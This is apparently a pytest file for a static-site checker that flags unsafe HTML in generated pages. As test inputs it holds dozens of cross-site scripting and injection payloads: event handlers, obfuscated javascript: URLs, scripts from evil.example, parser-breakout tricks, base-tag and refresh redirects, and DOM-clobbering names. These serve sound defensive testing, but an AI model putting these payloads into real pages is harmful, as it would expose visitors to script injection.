"""One page: what it must not hold, each with its line; what it may."""

from __future__ import annotations

import pytest

from digest.sitecheck.addresses import SiteBase
from digest.sitecheck.page import examine_fragment, examine_page
from digest.sitecheck.rules import CheckRules, hash_script

BASE = SiteBase.of("https://team.github.io/digest/")
DAY, BY_HAND = "2026-03-02/index.html", "guide/index.html"
BEFORE = "<!doctype html>\n<html lang=en><head><title>t</title></head><body>\n<article>\n"
AFTER = "\n</article></body></html>"
LINE = 4  # of what stands between


def kinds(html: str, file: str = BY_HAND, rules: CheckRules | None = None) -> list[str]:
    seen = examine_page(file, BEFORE + html + AFTER, rules or CheckRules(), BASE)
    assert all(fault.line in {0, LINE} for fault in seen.faults), seen.faults
    return sorted({fault.kind for fault in seen.faults})


POLICY = "<meta http-equiv=Content-Security-Policy content=\"default-src 'self'{}\">"


@pytest.mark.parametrize(
    ("html", "kinds_found"),
    [
        (POLICY.format("") + "<script src=../x.js></script>", []),
        (POLICY.format("") + "<script type=application/json>{}</script>", []),
        (POLICY.format(f";script-src '{hash_script('x()')}'") + "<script>x()</script>", []),
        (POLICY.format(";script-src 'unsafe-inline'") + "<script>x()</script>", []),
        (POLICY.format("") + "<script>x()</script>", ["policy"]),
        (POLICY.format(f";script-src '{hash_script('y()')}'") + "<script>x()</script>", ["policy"]),
        ("<script src=../x.js></script>" + POLICY.format(""), ["policy"]),
    ],
)
def test_a_policy_holds_every_script_of_its_page(html: str, kinds_found: list[str]) -> None:
    assert kinds(html, rules=CheckRules(scripts=(hash_script("x()"),))) == kinds_found


@pytest.mark.parametrize(
    ("html", "kind"),
    [
        ("<p onclick='x'>", "handler"),
        ("<p ONpointerenter=x>", "handler"),
        ("<svg/onload=alert(1)>", "handler"),
        ("<img src=x.png\nonerror=x>", "handler"),
        ("<svg><style><img src=x.png onerror=x></style></svg>", "handler"),  # breaks out of it
        ("<noscript><p title='</noscript><img src=x.png onerror=x>'></noscript>", "handler"),
        ("<script>alert(1)</script>", "script"),
        ("<script src=https://evil.example/x.js></script>", "script"),
        ("<script src=//evil.example/x.js></script>", "script"),
        ("<script src=\\\\evil.example/x.js></script>", "script"),
        ("<script src=https://team.github.io@evil.example/x.js></script>", "script"),
        ("<script type=importmap>{}</script>", "script"),
        ("<script type=speculationrules>{}</script>", "script"),
        ("<script src=x.js type=text/vbscript></script>", "script"),
        ("<svg><script>x</script></svg>", "element"),
        ("<script type=application/ld+json>{</script>", "parse"),
        ("<img src=https://evil.example/x.png>", "host"),
        ("<img src=https:evil.example/x.png>", "host"),
        ("<img srcset='a.png 1x, https://evil.example/b.png 2x'>", "host"),
        ("<link rel=stylesheet href=https://evil.example/x.css>", "host"),
        ("<link rel=preconnect href=https://evil.example>", "host"),
        ("<link rel=import href=https://evil.example/x>", "host"),
        ("<video poster=https://evil.example/x.png></video>", "host"),
        ("<svg><use href=https://evil.example/x.svg#a></use></svg>", "host"),
        ("<img src=data:image/svg+xml,x>", "host"),
        ("<table background=https://evil.example/x.png></table>", "host"),
        ("<p style=\"background: url('https://evil.example/x')\">", "host"),
        ("<style>@import 'https://evil.example/x';</style>", "host"),
        ("<a href=javascript:alert(1)>x</a>", "scheme"),
        ("<a href=' \x01jAvA\nscript:alert(1)'>x</a>", "scheme"),
        ("<a href=&#106;avascript&colon;alert(1)>x</a>", "scheme"),
        ("<a href=vbscript:x>x</a>", "scheme"),
        ("<a href=data:text/html,x>x</a>", "scheme"),
        ("<a href=file:///etc/passwd>x</a>", "scheme"),
        ("<a href=//evil.example>x</a>", "scheme"),
        ("<a href=/\\evil.example>x</a>", "scheme"),
        ("<a href=../../../x>x</a>", "scheme"),
        ("<svg><a xlink:href=javascript:x>x</a></svg>", "scheme"),
        ("<a ping='https://evil.example javascript:x' href=.>x</a>", "scheme"),
        ("<button formaction=javascript:x>x</button>", "scheme"),
        ("<form action=https://evil.example/><button>x</button></form>", "form"),
        ("<form action=. method=post></form>", "form"),
        ("<iframe src=.></iframe>", "frame"),
        ("<object data=x.swf></object>", "frame"),
        ("<embed src=x>", "frame"),
        ("<p srcdoc=x>", "frame"),
        ("<base href=https://evil.example/>", "element"),
        ("<think>x</think>", "element"),
        ("<x-widget></x-widget>", "element"),
        ("<math><mi>x</mi></math>", "element"),
        ("<svg><foreignObject><p>x</p></foreignObject></svg>", "element"),
        ("<svg><animate attributeName=href /></svg>", "element"),
        ("<meta http-equiv=Refresh content='0; url=https://evil.example/'>", "refresh"),
        ("<meta http-equiv=refresh content='0;javascript:x'>", "refresh"),
        ("<p id=a><p id=a>", "id"),
        ("<img src=x.png id=__config>", "id"),
        ("<img src=x.png name=cookie>", "name"),
        ("<form name=body></form>", "name"),
        ("<p id=a id=b>", "markup"),
        ('<a href="."class="x">x</a>', "markup"),
        ("<!-- a --!> b -->", "markup"),
        ("<p><![CDATA[x]]>", "markup"),
        ("a \x00 b", "text"),
        ("a \x07 b", "text"),
    ],
)
def test_a_page_must_not_have(html: str, kind: str) -> None:
    if "\n" in html:
        seen = examine_page(BY_HAND, BEFORE + html + AFTER, CheckRules(), BASE)
        assert kind in {fault.kind for fault in seen.faults}
    else:
        assert kind in kinds(html)


@pytest.mark.parametrize(
    "html",
    [
        "<p style='color: red'>a <b>b</b> <a href='https://x.example/?q=1#f'>c</a>",
        "<a href=mailto:team@example.org>x</a>",
        "<img src=data:image/png;base64,AAAA alt=x>",
        "<style>p { background: url(data:image/svg+xml,x) }</style>",
        "<form role=search action=../search/ method=get><input type=search name=q></form>",
        "<svg viewBox='0 0 1 1'><title>x</title><path d=M0/><use href=../i.svg#a></use></svg>",
        '<script type=application/json>{"a": "\\u003c/script>"}</script>',
        "<script src=../a.js type=module></script>",
        "<meta http-equiv=refresh content='0; url=../other/'>",
        "<link rel=canonical href=https://team.github.io/digest/guide/>",
        "<link rel=alternate href=https://other.example/>",
        "<a href=/other-site/>beside this one</a>",
        "<details open><summary>s</summary><table><tr><td>1</table></details>",
    ],
)
def test_a_page_may_have(html: str) -> None:
    assert kinds(html) == []


@pytest.mark.parametrize(
    "html",
    [
        "<img src=x.png>",
        "<p style='color: red'>",
        "<style>p {}</style>",
        "<input>",
        "<meta name=a>",
    ],
)
def test_content_of_the_archive_may_have_less(html: str) -> None:
    assert kinds(html) == []
    assert kinds(html, DAY) in (["element"], ["style"])
    outside = examine_page(DAY, f"{BEFORE}{AFTER}\n{html}", CheckRules(), BASE)
    assert outside.faults == []


def test_what_a_site_is_allowed() -> None:
    script = "console.log('ours')"
    html = f"<script>{script}</script><img src=https://Img.example/x.png>"
    assert kinds(html) == ["host", "script"]
    assert kinds(html, rules=CheckRules(("img.example",), (hash_script(script),))) == []


def test_a_script_of_the_theme_is_known_but_not_what_breaks_out_of_it() -> None:
    theirs = 'var el=document.querySelector("[data-md-component=outdated]"),base=new URL("{}")'
    theirs += ',outdated=__md_get("__outdated",sessionStorage,base);!0===outdated&&el&&'
    theirs += "(el.hidden=!1)"

    def kinds_with(base: str) -> list[str]:
        return kinds(f"<script>{theirs.format(base)}</script>")

    assert kinds_with("../..") == []
    assert kinds_with('.."),alert(1),("') == ["script"]
    assert kinds(f"<script>{theirs.format('..')};alert(1)</script>") == ["script"]


def test_links_are_read_as_a_browser_reads_them() -> None:
    html = (
        "<a href='../a/?q=1#b%20c'>1</a><a href=#here>2</a><a href=/digest/d/e.html>3</a>"
        "<a href=https://team.github.io/digest/f/>4</a><a href=..>5</a><a href='?q'>6</a>"
        "<a href='g%20h/i.txt#:~:text=x'>7</a><a href=/digest>8</a>"
    )
    seen = examine_page(BY_HAND, BEFORE + html + AFTER, CheckRules(), BASE)
    assert [(link.path, link.fragment) for link in seen.links] == [
        ("a/index.html", "b c"),
        (BY_HAND, "here"),
        ("d/e.html", ""),
        ("f/index.html", ""),
        ("index.html", ""),
        (BY_HAND, ""),
        ("guide/g h/i.txt", ""),
        ("index.html", ""),
    ]


def test_a_stranger_can_not_fail_the_check_by_naming_pages_there_are_none_of() -> None:
    html = BEFORE + "<a href=https://team.github.io/digest/no/>x</a><a href=https:/x>y</a>" + AFTER
    assert examine_page(DAY, html, CheckRules(), BASE).links == []
    assert examine_page(DAY, html, CheckRules(), BASE).faults == []
    assert [link.path for link in examine_page(BY_HAND, html, CheckRules(), BASE).links] == [
        "no/index.html"
    ]


def test_html_in_a_feed_is_held_to_the_rules_of_the_archive() -> None:
    html = "<p>\n<img src=x.png><a href=javascript:x>x</a><a href=y/>y</a>"
    seen = examine_fragment("feed.xml", 7, html, CheckRules(), BASE)
    assert [(fault.line, fault.kind) for fault in seen.faults] == [(7, "element"), (7, "scheme")]
    assert [link.path for link in seen.links] == ["x.png", "y/index.html"]
